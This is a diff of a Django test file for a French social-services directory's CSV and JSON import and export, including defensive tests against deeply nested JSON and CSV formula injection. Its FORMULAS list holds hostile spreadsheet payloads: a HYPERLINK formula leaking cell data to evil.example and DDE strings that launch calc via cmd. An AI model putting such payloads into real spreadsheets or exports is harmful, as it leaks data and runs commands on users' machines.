@@ -8,7 +8,12 @@ from datetime import timedelta
 import pytest
 from django.core.management import CommandError, call_command
 from django.utils import timezone
+from django.utils.text import normalize_newlines
+from hypothesis import given
+from hypothesis import strategies as st
 
+from structures.data.columns import spreadsheet_escape, spreadsheet_unescape
+from structures.data.datainclusion import datainclusion_records_read
 from structures.data.exports import directory_csv_files, directory_json_files
 from structures.data.planning import records_import
 from structures.data.readers import Encoding, csv_records_read, json_records_read
@@ -16,7 +21,7 @@ from structures.data.records import ImportReport
 from structures.management.commands.load_demo import directory_delete
 from structures.models import Contact, Service, Structure, Theme, User
 
-from .directory_data import directory_build, directory_snapshot
+from .directory_data import directory_build, directory_snapshot, import_files, problems_of
 from .factories import StructureFactory, ThemeFactory, UserFactory
 
 pytestmark = pytest.mark.django_db
@@ -39,16 +44,6 @@ def structures_csv(*lines, encoding="utf-8"):
     return ("\r\n".join([STRUCTURE_HEADER, *lines]) + "\r\n").encode(encoding)
 
 
-def import_files(files, *, apply=False, encoding=Encoding.UTF8):
-    report = ImportReport()
-    records = csv_records_read(files=files, report=report, encoding=encoding)
-    return records_import(records=records, apply=apply, report=report)
-
-
-def problems_of(report):
-    return [str(problem) for problem in report.problems]
-
-
 def test_the_csv_export_is_utf8_with_a_bom_and_uses_the_chosen_delimiter():
     directory_build()
     files = directory_csv_files(delimiter=";")
@@ -61,7 +56,8 @@ def test_the_csv_export_is_utf8_with_a_bom_and_uses_the_chosen_delimiter():
     assert by_slug["ccas"]["horaires"] == "Du lundi au vendredi\n9 h – 12 h"
     services = files["services.csv"].decode("utf-8-sig")
     assert "logement, sante" in services
-    assert directory_csv_files()["structures.csv"].decode("utf-8-sig").startswith("uid,identifiant")
+    header = directory_csv_files()["structures.csv"].decode("utf-8-sig").splitlines()[0]
+    assert header.startswith('"uid","identifiant",')
 
 
 def test_the_json_export_holds_every_table_with_native_types():
@@ -500,3 +496,92 @@ def test_an_applied_import_enters_the_history_of_every_fiche_it_writes():
     assert Structure.objects.get(slug="restos").history.first().history_type == "~"
     assert Structure.history.count() == 3
     assert Service.history.count() == 3
+
+
+@pytest.mark.parametrize("depth", [200_000, 50])
+@pytest.mark.parametrize("reader", ["repertoire", "data-inclusion"])
+def test_a_json_file_of_deeply_nested_brackets_is_refused_in_french(depth, reader):
+    nested = b"[" * depth + b"]" * depth
+    if reader == "repertoire":
+        document = b'{"format": "repertoire-competences-sociales", "structures": ' + nested + b"}"
+        files, read = {"repertoire.json": document}, json_records_read
+    else:
+        files, read = {"structures.json": b'[{"id": ' + nested + b"}]"}, datainclusion_records_read
+    report = ImportReport()
+
+    assert read(files=files, report=report) == []
+
+    assert [problem.message for problem in report.problems] == [
+        "listes ou objets imbriqués sur plus de 8 niveaux : ce n'est pas un fichier du "
+        "répertoire ni de data·inclusion."
+    ]
+
+
+def test_a_json_value_that_is_neither_text_nor_a_list_of_texts_is_reported():
+    directory_build()
+    document = json.loads(directory_json_files()["repertoire.json"])
+    document["structures"][0]["nom"] = {"texte": "CCAS"}
+    report = ImportReport()
+    json_records_read(files={"r.json": json.dumps(document).encode()}, report=report)
+    assert (
+        "« nom » : un texte, un nombre ou une liste de textes est attendu."
+        in (problems_of(report)[0])
+    )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("delimiter", [";", ","])
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_a_csv_export_starts_a_formula(formula, delimiter):
+    StructureFactory(slug="ccas", name="CCAS", role=formula, opening_hours=formula)
+
+    content = directory_csv_files(delimiter=delimiter)["structures.csv"].decode("utf-8-sig")
+
+    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    # Texts are stored with "\n" line endings: "\r=1+1" is kept as "\n=1+1".
+    assert "'" + normalize_newlines(formula) in cells
+    # every cell is quoted: a cell split on the other delimiter cannot start a formula
+    assert content.startswith('"uid"' + delimiter + '"identifiant"')
+    assert content.count('"') >= 2 * len(cells)
+
+
+TEXTS = ["- Bail\n- Pièce d'identité", "'=déjà marqué", "'", "''", "' espace", "=1+1", "@accueil"]
+
+
+def test_a_csv_round_trip_gives_back_every_text_exactly():
+    directory_build()
+    ccas = Structure.objects.get(slug="ccas")
+    Structure.objects.filter(pk=ccas.pk).update(
+        role=TEXTS[0], opening_hours=TEXTS[1], access_details=TEXTS[2], bus_stop=TEXTS[3]
+    )
+    Structure.objects.filter(slug="restos").update(
+        partner_expectations=TEXTS[4], partnership_limits=TEXTS[5], role=TEXTS[6]
+    )
+    Service.objects.filter(slug="logement").update(documents=FORMULAS[0], procedure="- Appeler")
+    before = directory_snapshot()
+    files = directory_csv_files(delimiter=";")
+    directory_delete()
+
+    report = import_files(files, apply=True)
+
+    assert report.ok, problems_of(report)
+    assert directory_snapshot() == before
+    assert Service.objects.get(slug="logement").procedure == "- Appeler"
+
+
+@given(st.text(alphabet="'=+-@\t\r ab", max_size=8))
+def test_the_formula_mark_is_always_taken_away_exactly(text):
+    escaped = spreadsheet_escape(text)
+    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert spreadsheet_unescape(escaped) == text
